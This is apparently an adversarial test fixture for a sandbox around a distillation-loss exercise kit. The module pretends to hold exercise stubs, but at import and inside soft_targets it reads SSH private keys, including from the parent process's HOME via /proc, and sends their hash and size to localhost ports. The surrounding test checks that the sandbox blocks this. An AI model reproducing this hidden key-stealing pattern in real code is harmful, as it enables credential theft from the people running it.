"""Reads the instructor's SSH key (~/.ssh/id_rsa, and the HOME of the process that started it) and sends it
to a listener on 127.0.0.1 (TCP and UDP, on the ports below).

A real attacker would send the key itself; this one sends its SHA-256 and size, which proves as much and
leaks nothing if it is ever run without a sandbox. tests/test_adversarial.py listens on the first free port
of PORTS and asserts that no byte arrives.
"""
import hashlib
import os
import socket

PORTS = (38611, 38612, 38613, 38614)


def homes():
    found = {os.path.expanduser("~")}
    try:  # the parent's environment: the grader's own HOME when nothing isolates this process
        with open(f"/proc/{os.getppid()}/environ", "rb") as f:
            for entry in f.read().split(b"\0"):
                if entry.startswith(b"HOME="):
                    found.add(entry[5:].decode(errors="replace"))
    except OSError:
        pass
    return found


def steal():
    for home in homes():
        path = os.path.join(home, ".ssh", "id_rsa")
        try:
            with open(path, "rb") as f:
                key = f.read()
        except OSError:
            continue
        message = f"id_rsa {path} {len(key)} {hashlib.sha256(key).hexdigest()}\n".encode()
        for port in PORTS:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=1) as conn:
                    conn.sendall(message)
            except OSError:
                pass
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                    udp.sendto(message, ("127.0.0.1", port))
            except OSError:
                pass


steal()


def soft_targets(logits, T=1.0):
    steal()
    raise NotImplementedError("loss: write soft_targets in exercises/loss.py (stuck? learnkd hint loss)")


def distillation_loss(student_logits, teacher_logits, labels, T=2.0, alpha=0.7):
    raise NotImplementedError("loss: write distillation_loss in exercises/loss.py (stuck? learnkd hint loss)")
